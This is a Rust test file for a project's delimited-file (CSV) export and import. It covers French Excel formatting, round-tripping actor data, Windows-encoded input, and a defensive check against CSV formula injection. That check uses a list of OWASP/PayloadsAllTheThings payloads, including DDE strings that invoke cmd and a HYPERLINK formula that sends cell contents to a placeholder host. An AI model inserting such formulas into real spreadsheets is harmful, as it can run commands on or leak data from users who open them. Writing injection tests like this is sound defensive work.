//! Delimited files.

use std::fs;
use std::path::Path;

use serde_json::json;
use tour_de_table::analysis::readings;
use tour_de_table::exchange::formats::{
    Delimited, Format, Imported, Settings, Source, Topic, enter, export, import,
};
use tour_de_table::i18n::Lang;
use tour_de_table::model::Criterion;

use crate::support::{all, back, dossier, made, settings};

#[test]
fn french_excel_opens_a_file_by_a_double_click() {
    let before = dossier(json!({
        "actors": [{ "id": "a1", "name": "Ville « Sud » ; nord", "targetMobilisation": 3 }],
        "objectives": [{ "id": "o1", "title": "Former", "weight": 1.5 }],
    }));
    let objectives = Format::named("csv:objectives").unwrap();
    let french = String::from_utf8(made(objectives, &before, Lang::Fr)).unwrap();
    assert_eq!(
        french,
        "\u{feff}\"Intitulé\";\"Thème\";\"Poids\";\"Identifiant\"\r\n\"Former\";\"\";\"1,5\";\"o1\"\r\n"
    );
    let plain = Settings { delimited: Delimited::Rfc4180, ..settings(Lang::En) };
    let plain = String::from_utf8(export(objectives, &before, &plain).unwrap()).unwrap();
    // RFC 4180: commas, CRLF; a number stands without quotes.
    assert_eq!(plain, "\"Title\",\"Theme\",\"Weight\",\"Identifier\"\r\n\"Former\",\"\",1.5,\"o1\"\r\n");
}

#[test]
fn the_table_of_actors_gives_its_actors_back() {
    for before in all() {
        for (lang, delimited) in [(Lang::Fr, Delimited::French), (Lang::En, Delimited::Rfc4180)] {
            let file = export(Format::Csv(Topic::ACTORS), &before, &Settings { delimited, ..settings(lang) })
                .unwrap();
            let (after, remarks) = back(&file);
            assert_eq!(after.actors.len(), before.actors.len());
            for (one, other) in before.actors.iter().zip(&after.actors) {
                let of = |actor: &tour_de_table::model::Actor| {
                    (
                        actor.id.clone(),
                        actor.name.clone(),
                        actor.kind,
                        actor.subkind.clone(),
                        actor.tags.clone(),
                        actor.interests.clone(),
                    )
                };
                assert_eq!(of(one), of(other));
                for criterion in Criterion::ALL {
                    assert_eq!(readings::used(one, *criterion), readings::used(other, *criterion));
                }
                let names = |dossier: &tour_de_table::model::Dossier,
                             actor: &tour_de_table::model::Actor|
                 -> Vec<String> {
                    actor.territories.iter().map(|id| dossier.territory(id).unwrap().name.clone()).collect()
                };
                assert_eq!(names(&before, one), names(&after, other));
            }
            assert!(remarks.iter().any(|remark| remark.contains("ne contient qu’un tableau")), "{remarks:?}");
        }
    }
}

/// OWASP's list of beginnings and PayloadsAllTheThings, "CSV Injection".
const FORMULAS: [&str; 14] = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    "=HYPERLINK(\"http://example.invalid?x=\"&A1,\"cliquez\")",
    "DDE (\"cmd\";\"/C calc\";\"!A0\")A0",
    "\t=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",
    "'=1+1",
    "''=1+1",
    "-2+3+cmd|' /C calc'!E1",
];

// T4
#[test]
fn no_cell_begins_like_a_formula_and_texts_come_back_as_they_were() {
    for text in FORMULAS {
        let before = dossier(json!({ "actors": [{ "id": "a1", "name": text, "interests": text }] }));
        for delimited in [Delimited::French, Delimited::Rfc4180] {
            let file =
                export(Format::Csv(Topic::ACTORS), &before, &Settings { delimited, ..settings(Lang::Fr) })
                    .unwrap();
            let text_of = String::from_utf8(file.clone()).unwrap();
            let separator = if delimited == Delimited::French { b';' } else { b',' };
            let mut reader = csv::ReaderBuilder::new()
                .delimiter(separator)
                .from_reader(text_of.trim_start_matches('\u{feff}').as_bytes());
            for cell in &reader.records().next().unwrap().unwrap() {
                let start = cell.trim_start().chars().next();
                assert!(!start.is_some_and(|c| "=+-@＝＋－＠".contains(c)), "{cell:?}");
            }
            let (after, _) = back(&file);
            assert_eq!(after.actors[0].interests, text);
        }
    }
}

// FI-34
#[test]
fn a_file_in_the_encoding_of_windows_and_any_table_enter_by_their_columns() {
    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/pasted");
    let file = fs::read(folder.join("semicolon-quotes.csv")).unwrap();
    let Imported::Tables(tables) = import(Source::Any, &file, "fr").unwrap() else { panic!("a dossier") };
    assert_eq!((tables.len(), tables[0].tabbed), (1, false));
    let windows = b"Nom;Type;Courriel\nL\x92\xe9cole de la 2\xe8me chance;Association;a@b.fr\n";
    let Imported::Tables(tables) = import(Source::Csv, windows, "fr").unwrap() else { panic!("a dossier") };
    let (opened, remarks) = enter(&tables[0], "fr").unwrap();
    assert_eq!(opened.dossier.actors[0].name, "L’école de la 2ème chance");
    assert_eq!(opened.dossier.actors[0].contacts[0].email, "a@b.fr");
    assert!(remarks.is_empty());
}
